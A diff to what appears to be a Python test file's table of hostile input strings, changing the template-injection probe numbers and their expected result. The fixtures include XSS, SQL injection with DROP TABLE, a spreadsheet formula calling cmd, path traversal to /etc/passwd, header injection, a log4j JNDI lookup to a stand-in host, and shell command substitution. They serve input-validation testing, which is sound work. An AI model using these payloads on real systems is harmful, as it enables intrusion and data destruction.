@@ -12,8 +12,8 @@ import re
 PROBE = "bad(1)"
 """What a script of the corpus would run."""
 
-SEVEN_TIMES_191 = "1337"
-"""What a template that was run would leave."""
+SEVEN_TIMES_19181 = "134267"
+"""What a template that was run would leave; no clock shows it, as files that say when they were made do."""
 
 _BLANK = {
     "empty": "", "space": " ", "blanks": " \t\r\n ", "ideographic spaces": "\u3000\u3000", "no-break space": "\xa0",
@@ -37,9 +37,9 @@ _ATTACKS = {
     "script": f"<script>{PROBE}</script>", "image": f"<img src=x onerror={PROBE}>", "attribute": f"\"' onfocus='{PROBE}' autofocus=\"",
     "out of the box": f"</textarea></select><svg/onload={PROBE}>", "script address": f"javascript:{PROBE}",
     "entity": f"&lt;script&gt;{PROBE}&#60;/script&#62;&amp;", "end of CDATA": "]]><xss/>&xxe;<?xml?>", "comment": f"--><!--<script>{PROBE}",
-    "SQL": "'; DROP TABLE expert; --", "SQL or": "' OR 1=1 --", "wildcards": "%_\\", "jinja": "{{ 7*191 }}{% for %}{#",
-    "other templates": "${7*191}#{7*191}<%= 7*191 %>", "format": "%s%n{0}{x.__class__}", "formula": "=7*191+cmd|' /C calc'!A0",
-    "plus formula": "+7*191", "at formula": "@SUM(7*191)", "path": "../../../../etc/passwd", "windows path": "..\\..\\con.txt\\",
+    "SQL": "'; DROP TABLE expert; --", "SQL or": "' OR 1=1 --", "wildcards": "%_\\", "jinja": "{{ 7*19181 }}{% for %}{#",
+    "other templates": "${7*19181}#{7*19181}<%= 7*19181 %>", "format": "%s%n{0}{x.__class__}", "formula": "=7*19181+cmd|' /C calc'!A0",
+    "plus formula": "+7*19181", "at formula": "@SUM(7*19181)", "path": "../../../../etc/passwd", "windows path": "..\\..\\con.txt\\",
     "header": "x\r\nSet-Cookie: bad=1", "log4j": "${jndi:ldap://x.invalid/a}", "shell": "$(id);`id`|id&",
 }  # fmt: skip
 _NUMBERS = {
